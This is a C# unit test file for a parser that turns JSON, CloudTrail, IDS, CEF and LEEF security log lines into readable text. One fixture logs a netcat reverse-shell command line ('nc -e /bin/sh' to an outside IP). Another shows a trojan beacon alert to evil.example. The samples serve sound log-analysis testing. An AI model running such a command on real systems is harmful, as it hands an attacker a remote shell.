using Hone.Corpus.Sources;

namespace Hone.Corpus.Tests.Sources.Logs;

public sealed class JsonLogTests : IDisposable
{
    private readonly TestFolder _folder = new();

    public void Dispose() => _folder.Dispose();

    [Theory]
    [InlineData("""{"@timestamp":"2024-03-01T10:00:00Z","ecs":{"version":"8"},"host":{"name":"web1"},"event":{"action":"denied"},"process":{"command_line":"nc -e /bin/sh 203.0.113.7 443"},"message":"access denied","tags":[]}""",
        "## Host web1\n\n- 2024-03-01 10:00:00 access denied; event.action=denied; process.command_line=nc -e /bin/sh 203.0.113.7 443\n")]
    [InlineData("""{"time":1709287200,"level":"error","msg":"x","a":[1,2],"b":null,"c":"-"}""", "\n- 2024-03-01 10:00:00 x; level=error; a=1, 2\n")]
    [InlineData("""{"ts":1709287200123.5,"msg":"milli"}""", "\n- 2024-03-01 10:00:00 milli\n")]
    [InlineData("""{"timestamp":"2024-03-01T10:00:00.1+0000","flow_id":1,"event_type":"alert","src_ip":"10.0.0.5","src_port":49152,"dest_ip":"203.0.113.7","dest_port":80,"proto":"TCP","alert":{"action":"allowed","signature_id":2012345,"rev":3,"signature":"Beacon seen","category":"A Network Trojan was detected","severity":1},"http":{"hostname":"evil.example","url":"/gate.php"},"app_proto":"http","flow":{"bytes_toserver":100}}""",
        "## From 10.0.0.5\n\n- 2024-03-01 10:00:00 Alert Beacon seen (sid 2012345, A Network Trojan was detected, severity 1): TCP 10.0.0.5:49152 -> 203.0.113.7:80 http; action=allowed; http.hostname=evil.example; http.url=/gate.php\n")]
    [InlineData("""{"eventTime":"2024-03-01T10:00:00Z","eventSource":"s3.amazonaws.com","eventName":"GetObject","awsRegion":"us-east-1","sourceIPAddress":"203.0.113.7","userAgent":"aws-cli/2","errorCode":"AccessDenied","userIdentity":{"type":"IAMUser","arn":"arn:aws:iam::111122223333:user/kim"},"requestParameters":{"bucketName":"b","key":"k"}}""",
        "## Identity arn:aws:iam::111122223333:user/kim\n\n- 2024-03-01 10:00:00 GetObject of s3.amazonaws.com in us-east-1 from 203.0.113.7, refused: AccessDenied; type=IAMUser; userAgent=aws-cli/2; bucketName=b; key=k\n")]
    public void Read_Event_IsTold(string line, string told)
    {
        string text = _folder.Single("logs", line).Document.Text;

        Assert.Contains(told, text, StringComparison.Ordinal);
    }

    [Theory]
    [InlineData("""[{"msg":"one"},{"msg":"two \" ] } {"}]""")]
    [InlineData("[\n  {\n    \"msg\": \"one\"\n  },\n  {\n    \"msg\": \"two \\\" ] } {\"\n  }\n]\n")]
    [InlineData("""{"Records":[{"msg":"one"},{"msg":"two \" ] } {"}]}""")]
    [InlineData("{\n \"Records\": [\n {\"msg\":\"one\"}, {\"msg\":\"two \\\" ] } {\"} ] }")]
    [InlineData("{\n \"msg\": \"one\"\n}\n{\n \"msg\": \"two \\\" ] } {\"\n}\n")]
    [InlineData("""
        {"msg":"one"}
        {"msg":"two \" ] } {"}
        """)]
    public void Read_RecordsOfEveryShape_AreTheSame(string content)
    {
        string text = _folder.Single("jsonlog", content).Document.Text;

        Assert.EndsWith("2 events of a.log.\n\n- one\n- two \" ] } {\n", text, StringComparison.Ordinal);
    }

    [Fact]
    public void Read_OddValues_NeverCrash()
    {
        foreach (string value in (string[])["5", "\"x\"", "[]", "{}", "null", "[null]", "[[]]", "[{}]", "true", "\"\\ud800\"", "1e999", "-1"])
            foreach (string name in (string[])["@timestamp", "event_type", "src_ip", "eventName", "EventID", "Channel", "winlog", "Event", "_path", "ts", "uid", "id", "message", "host"])
                LogFolder.AssertSound(_folder.ReadText("logs", "a.log", $$$"""{"{{{name}}}":{{{value}}},"EventID":{{{value}}},"event_type":"x","src_ip":"1.2.3.4","_path":"conn","a":{"b":{{{value}}}}}"""));
    }

    [Theory]
    [InlineData("CEF:0|Acme|Wall|1.2|100|Blocked \\| dropped|8|src=203.0.113.7 dst=10.0.0.5 spt=5000 msg=A request with spaces and a\\=b cs1Label=Rule cs1=r 7 rt=1709287200000",
        "## Acme Wall 1.2\n\n- 2024-03-01 10:00:00 Blocked | dropped (100, severity 8): src=203.0.113.7; dst=10.0.0.5; spt=5000; msg=A request with spaces and a=b; Rule=r 7\n")]
    [InlineData("<134>Mar  1 10:00:00 gate CEF:0|Acme|Wall|1.2|100|Blocked|8|act=deny", "- Mar 1 10:00:00 Blocked (100, severity 8): act=deny\n")]
    [InlineData("LEEF:1.0|Acme|IDS|3|SYN flood|src=203.0.113.7\tdst=10.0.0.5\tusrName=kim", "## Acme IDS 3\n\n- SYN flood: src=203.0.113.7; dst=10.0.0.5; usrName=kim\n")]
    [InlineData("LEEF:2.0|Acme|IDS|3|login|^|src=203.0.113.7^usrName=kim", "- login: src=203.0.113.7; usrName=kim\n")]
    [InlineData("LEEF:2.0|Acme|IDS|3|login|x5E|src=203.0.113.7^usrName=kim", "- login: src=203.0.113.7; usrName=kim\n")]
    public void Cef_Line_IsTold(string line, string told)
    {
        string text = _folder.Single("logs", line).Document.Text;

        Assert.StartsWith("# Security device log", text, StringComparison.Ordinal);
        Assert.Contains(told, text, StringComparison.Ordinal);
    }

    [Theory]
    [InlineData("CEF:0|Acme|Wall")]
    [InlineData("LEEF:1.0|Acme")]
    [InlineData("CEF:")]
    public void Cef_CutHeader_IsBroken(string line) => Assert.Equal("broken", Assert.Single(_folder.ReadText("cef", "a.log", line)).Verdict.Reason);
}
